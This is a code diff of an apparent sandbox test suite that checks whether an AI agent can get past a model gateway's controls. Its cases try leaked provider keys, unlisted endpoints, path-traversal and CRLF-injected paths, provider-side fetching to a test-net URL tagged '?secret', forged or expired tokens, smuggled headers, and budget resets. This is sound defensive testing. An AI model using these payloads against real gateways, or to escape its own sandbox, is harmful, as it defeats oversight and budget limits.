@@ -5,90 +5,173 @@ from typing import Any, Final
 
 from agentbox.core.paths import environment
 from agentbox.sandbox.attacks.attempts import worst
+from agentbox.sandbox.attacks.case import PASSED, AttackSuite, TargetInfo, TargetMissing
 from agentbox.sandbox.attacks.gateway import post, providers, token
-from agentbox.sandbox.attacks.line import PASSED, Absent, Facts, Table
 
-TABLE = Table("models")
+SUITE = AttackSuite("models")
 _REFUSED: Final = {"403": "model gateway"}
 _ODD: Final = {"403": "model gateway", "404": "model gateway", "400": "model gateway"}
 _TESTS: Final = "tests/unit/gateway/llm/test_refusals.py"
-_PARTS: Final = "tests/unit/gateway/llm/test_parts.py"
+_PART_TESTS: Final = "tests/unit/gateway/llm/test_parts.py"
 _CHAT: Final = {"model": "any", "messages": [{"role": "user", "content": "hello"}]}
 
 
-@TABLE.line("key", "looks for a provider's key in its own environment", {"its own token": "model gateway"},
-            tests=("tests/unit/gateway/llm/test_pass_through.py::test_a_call_has_the_box_s_key_and_is_charged_what_the_provider_says",))  # fmt: skip
-def _key(_facts: Facts) -> str:
-    held = token()
-    named = [value for name, value in environment().items() if name.endswith(("_API_KEY", "_KEY", "_SECRET"))]
-    return "its own token" if all(value == held for value in named) else PASSED
+@SUITE.case(
+    "key",
+    "looks for a provider's key in its own environment",
+    {"its own token": "model gateway"},
+    tests=(
+        "tests/unit/gateway/llm/test_pass_through.py::test_a_call_has_the_box_s_key_and_is_charged_what_the_provider_says",
+    ),
+)
+def _key(_facts: TargetInfo) -> str:
+    own_token = token()
+    keys = [
+        value
+        for name, value in environment().items()
+        if name.endswith(("_API_KEY", "_KEY", "_SECRET"))
+    ]
+    return "its own token" if all(value == own_token for value in keys) else PASSED
 
 
-@TABLE.line("paths", "calls what is not on the list of a provider's calls", _REFUSED | {"404": "model gateway"},
-            tests=(f"{_TESTS}::test_only_listed_calls_pass",))  # fmt: skip
-def _paths(facts: Facts) -> str:
-    tails = ("v1/files", "v1/fine_tuning/jobs", "v1/batches", "v1/organization/api_keys", "v1/assistants", "admin")
-    return worst(_stopped(post(f"/llm/{name}/{tail}", b"{}")) for name in providers(facts) for tail in tails)
-
-
-@TABLE.line("odd-paths", "writes a path so that two programs read it in two ways", _ODD,
-            tests=(f"{_TESTS}::test_a_path_in_another_form_is_refused",))  # fmt: skip
-def _odd_paths(facts: Facts) -> str:
+@SUITE.case(
+    "paths",
+    "calls what is not on the list of a provider's calls",
+    _REFUSED | {"404": "model gateway"},
+    tests=(f"{_TESTS}::test_only_listed_calls_pass",),
+)
+def _paths(facts: TargetInfo) -> str:
     tails = (
-        "../files", "v1/../files", "v1/%2e%2e/files", "v1%2ffiles", "v1//files", "v1/./chat/completions", "v1\\files",
-        "v1/chat/completions/../../files", "v1/files?/chat/completions", "v1/files#/chat/completions", "v1/files;/chat",
-        "@192.0.2.1/v1/chat/completions", "v1/chat/completions%00", "v1/chat/completions%0d%0aX:%20y",
-    )  # fmt: skip
-    return worst(_stopped(post(f"/llm/{name}/{tail}", b"{}")) for name in providers(facts) for tail in tails)
+        "v1/files",
+        "v1/fine_tuning/jobs",
+        "v1/batches",
+        "v1/organization/api_keys",
+        "v1/assistants",
+        "admin",
+    )
+    return worst(
+        _classify(post(f"/llm/{name}/{tail}", b"{}")) for name in providers(facts) for tail in tails
+    )
 
 
-@TABLE.line("hosted-tools", "has the provider fetch, search, run or keep something for it", _REFUSED,
-            tests=(f"{_PARTS}::test_parts_that_work_outside_of_the_box_are_refused_by_name",
-                   f"{_PARTS}::test_what_the_provider_would_fetch_the_agent_must_be_allowed_to_reach"))  # fmt: skip
-def _hosted_tools(facts: Facts) -> str:
+@SUITE.case(
+    "odd-paths",
+    "writes a path so that two programs read it in two ways",
+    _ODD,
+    tests=(f"{_TESTS}::test_a_path_in_another_form_is_refused",),
+)
+def _odd_paths(facts: TargetInfo) -> str:
+    tails = (
+        "../files",
+        "v1/../files",
+        "v1/%2e%2e/files",
+        "v1%2ffiles",
+        "v1//files",
+        "v1/./chat/completions",
+        "v1\\files",
+        "v1/chat/completions/../../files",
+        "v1/files?/chat/completions",
+        "v1/files#/chat/completions",
+        "v1/files;/chat",
+        "@192.0.2.1/v1/chat/completions",
+        "v1/chat/completions%00",
+        "v1/chat/completions%0d%0aX:%20y",
+    )
+    return worst(
+        _classify(post(f"/llm/{name}/{tail}", b"{}")) for name in providers(facts) for tail in tails
+    )
+
+
+@SUITE.case(
+    "hosted-tools",
+    "has the provider fetch, search, run or keep something for it",
+    _REFUSED,
+    tests=(
+        f"{_PART_TESTS}::test_parts_that_work_outside_of_the_box_are_refused_by_name",
+        f"{_PART_TESTS}::test_what_the_provider_would_fetch_the_agent_must_be_allowed_to_reach",
+    ),
+)
+def _hosted_tools(facts: TargetInfo) -> str:
     image = {"type": "image_url", "image_url": {"url": "http://192.0.2.1/?secret"}}
-    asked: tuple[dict[str, Any], ...] = (
-        {**_CHAT, "tools": [{"type": "web_search"}]}, {**_CHAT, "tools": [{"type": "mcp", "server_url": "http://192.0.2.1"}]},
-        {**_CHAT, "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}, {**_CHAT, "background": True},
-        {**_CHAT, "messages": [{"role": "user", "content": [image]}]}, {**_CHAT, "mcp_servers": [{"url": "http://192.0.2.1"}]},
-        {**_CHAT, "web_search_options": {}}, {**_CHAT, "Tools": [{"type": "web_search"}]}, {**_CHAT, "plugins": [{"id": "web"}]},
-        {**_CHAT, "messages": [{"role": "user", "content": [{"type": "video_url", "video_url": image["image_url"]}]}]},
-    )  # fmt: skip
-    paths = [f"/llm/{name}/{tail}" for name in providers(facts) for tail in ("v1/chat/completions", "v1/messages")]
-    return worst(_stopped(post(path, json.dumps(body).encode())) for path in paths for body in asked)
+    bodies: tuple[dict[str, Any], ...] = (
+        {**_CHAT, "tools": [{"type": "web_search"}]},
+        {**_CHAT, "tools": [{"type": "mcp", "server_url": "http://192.0.2.1"}]},
+        {**_CHAT, "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]},
+        {**_CHAT, "background": True},
+        {**_CHAT, "messages": [{"role": "user", "content": [image]}]},
+        {**_CHAT, "mcp_servers": [{"url": "http://192.0.2.1"}]},
+        {**_CHAT, "web_search_options": {}},
+        {**_CHAT, "Tools": [{"type": "web_search"}]},
+        {**_CHAT, "plugins": [{"id": "web"}]},
+        {
+            **_CHAT,
+            "messages": [
+                {
+                    "role": "user",
+                    "content": [{"type": "video_url", "video_url": image["image_url"]}],
+                }
+            ],
+        },
+    )
+    paths = [
+        f"/llm/{name}/{tail}"
+        for name in providers(facts)
+        for tail in ("v1/chat/completions", "v1/messages")
+    ]
+    return worst(
+        _classify(post(path, json.dumps(body).encode())) for path in paths for body in bodies
+    )
 
 
-@TABLE.line("no-token", "calls a model without a token, with a made-up one, with that of an agent that has ended",
-            {"401": "model gateway"}, tests=("tests/unit/gateway/llm/test_pass_through.py::test_no_token_no_model",))  # fmt: skip
-def _no_token(facts: Facts) -> str:
-    held = token()
-    forged = ("", "x" * len(held), held[:-1], *filter(None, (facts.ended_token,)))
+@SUITE.case(
+    "no-token",
+    "calls a model without a token, with a made-up one, with that of an agent that has ended",
+    {"401": "model gateway"},
+    tests=("tests/unit/gateway/llm/test_pass_through.py::test_no_token_no_model",),
+)
+def _no_token(facts: TargetInfo) -> str:
+    own_token = token()
+    forged = ("", "x" * len(own_token), own_token[:-1], *filter(None, (facts.ended_token,)))
     body = json.dumps(_CHAT).encode()
     paths = [f"/llm/{name}/v1/chat/completions" for name in providers(facts)]
-    return worst(_stopped(post(path, body, bearer=one)) for path in paths for one in forged)
+    return worst(_classify(post(path, body, bearer=bearer)) for path in paths for bearer in forged)
 
 
-@TABLE.line("headers", "slips headers for the provider into its request", {"400": "model gateway", "403": "model gateway"},
-            tests=(f"{_TESTS}::test_a_body_that_is_no_request_is_said_to_be_none",))  # fmt: skip
-def _headers(facts: Facts) -> str:
-    heads = ("X: a\nAuthorization: Bearer other\r\n", "Content-Length: 3\r\n", "Transfer-Encoding: chunked\r\n")
+@SUITE.case(
+    "headers",
+    "slips headers for the provider into its request",
+    {"400": "model gateway", "403": "model gateway"},
+    tests=(f"{_TESTS}::test_a_body_that_is_no_request_is_said_to_be_none",),
+)
+def _headers(facts: TargetInfo) -> str:
+    heads = (
+        "X: a\nAuthorization: Bearer other\r\n",
+        "Content-Length: 3\r\n",
+        "Transfer-Encoding: chunked\r\n",
+    )
     paths = [f"/llm/{name}/v1/chat/completions" for name in providers(facts)]
-    return worst(_stopped(post(path, b"[]", head=head)) for path in paths for head in heads)
+    return worst(_classify(post(path, b"[]", head=head)) for path in paths for head in heads)
 
 
-@TABLE.line("budget", "connects again to have its budget afresh", {"403": "model gateway", "429": "model gateway"},
-            tests=("tests/unit/gateway/llm/test_ledger.py::test_a_restart_and_a_new_generation_find_what_was_spent",
-                   "tests/unit/gateway/llm/test_streams.py::test_parallel_streams_cannot_overdraw"))  # fmt: skip
-def _budget(facts: Facts) -> str:
+@SUITE.case(
+    "budget",
+    "connects again to have its budget afresh",
+    {"403": "model gateway", "429": "model gateway"},
+    tests=(
+        "tests/unit/gateway/llm/test_ledger.py::test_a_restart_and_a_new_generation_find_what_was_spent",
+        "tests/unit/gateway/llm/test_streams.py::test_parallel_streams_cannot_overdraw",
+    ),
+)
+def _budget(facts: TargetInfo) -> str:
     """An agent of the default profile that no manifest names has no budget: each new connection must say so anew."""
     paths = [f"/llm/{name}/v1/chat/completions" for name in providers(facts)]
-    found = [post(path, json.dumps(_CHAT).encode()) for path in paths for _ in range(5)]
-    if "200" in found:
-        raise Absent("off: this agent has a budget, and spent a little of it")
-    return worst(map(_stopped, found))
+    replies = [post(path, json.dumps(_CHAT).encode()) for path in paths for _ in range(5)]
+    if "200" in replies:
+        raise TargetMissing("off: this agent has a budget, and spent a little of it")
+    return worst(map(_classify, replies))
 
 
-def _stopped(reply: str) -> str:
+def _classify(reply: str) -> str:
     """Only an answer of the gateway's own stops; what the provider was asked, and said, was let through."""
     return (
         reply
